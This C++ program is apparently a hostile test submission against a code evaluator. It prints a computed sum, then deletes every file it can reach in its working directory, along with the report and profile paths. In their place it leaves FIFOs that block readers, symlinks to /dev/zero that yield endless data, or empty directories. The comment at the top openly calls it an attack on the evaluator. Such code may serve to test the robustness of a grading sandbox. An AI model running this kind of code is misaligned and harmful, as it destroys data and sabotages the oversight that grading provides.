// Attacks the evaluator through the report's path: replaces every file it can reach with a
// FIFO (a reader would block), a link to /dev/zero (unbounded) or a directory.
#include <cstdio>
#include <dirent.h>
#include <string>
#include <sys/stat.h>
#include <unistd.h>
#include <vector>
int main() {
  long long n = 0, sum = 0;
  if (std::scanf("%lld", &n) != 1) return 1;
  for (long long i = 0; i < n; ++i) sum += i * i % 7;
  std::printf("%lld\n", sum);
  std::vector<std::string> names = {"report", "../report", "profile.out"};
  if (DIR* dir = opendir(".")) {
    while (dirent* entry = readdir(dir)) names.emplace_back(entry->d_name);
    closedir(dir);
  }
  int kind = 0;
  for (const std::string& name : names) {
    if (name == "." || name == "..") continue;
    unlink(name.c_str());
    rmdir(name.c_str());
    switch (kind++ % 3) {
      case 0: mkfifo(name.c_str(), 0666); break;
      case 1: symlink("/dev/zero", name.c_str()); break;
      default: mkdir(name.c_str(), 0777); break;
    }
  }
}
